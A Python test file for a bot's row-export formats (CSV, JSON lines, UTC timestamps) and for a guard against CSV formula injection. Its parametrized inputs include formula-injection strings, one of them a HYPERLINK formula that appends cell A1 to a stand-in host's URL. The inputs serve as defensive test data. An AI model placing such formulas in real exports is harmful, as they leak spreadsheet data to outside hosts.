"""How exported rows are written."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.services.exporting.formats import Format, encoder, guarded, iso, unguarded

COLUMNS = ("text", "count", "moment", "flag", "nothing", "changes")
ROW = {
    "text": 'Zoé, "the boss"\nof it',
    "count": -3,
    "moment": datetime(2026, 11, 1, 1, 30, tzinfo=timezone(timedelta(hours=-4))),
    "flag": True,
    "nothing": None,
    "changes": {"Café": [1, 2]},
}


def written(form: Format, row: dict[str, object]) -> str:
    head, encode = encoder(form, COLUMNS)
    return (head + encode([row])).decode()


def test_csv_is_read_back_as_it_was() -> None:
    [line] = csv.DictReader(io.StringIO(written(Format.CSV, ROW), newline=""))
    assert line == {
        "text": ROW["text"],
        "count": "-3",
        "moment": "2026-11-01T05:30:00Z",
        "flag": "true",
        "nothing": "",
        "changes": '{"Café": [1, 2]}',
    }


def test_json_lines_are_one_object_each_with_every_attribute() -> None:
    [line] = written(Format.JSONL, ROW).splitlines()
    assert json.loads(line) == {**ROW, "moment": "2026-11-01T05:30:00Z"}
    assert "Zoé" in line


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1 (514)",
        "-2",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "'=1",
        "''=1",
        "\uff1d1+1",
        '=HYPERLINK("http://x.example?"&A1)@b.example',
    ],
)
def test_what_a_spreadsheet_would_compute_is_text(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert written(Format.JSONL, {**ROW, "text": text}).count("'") == text.count("'")


@pytest.mark.parametrize("text", ["+15147894561", "Sophie", "d'Or", "'quoted'", "1-2", ""])
def test_what_it_would_not_is_left_as_it_is(text: str) -> None:
    assert guarded(text) == text


@given(st.one_of(st.text(), st.text("'=+-@\t1 ", max_size=6)))
def test_a_guard_is_taken_off_again(text: str) -> None:
    assert unguarded(guarded(text)) == text


def test_times_are_utc_to_the_microsecond() -> None:
    assert iso(datetime(2026, 1, 2, 3, 4, 5, 678, tzinfo=UTC)) == "2026-01-02T03:04:05.000678Z"
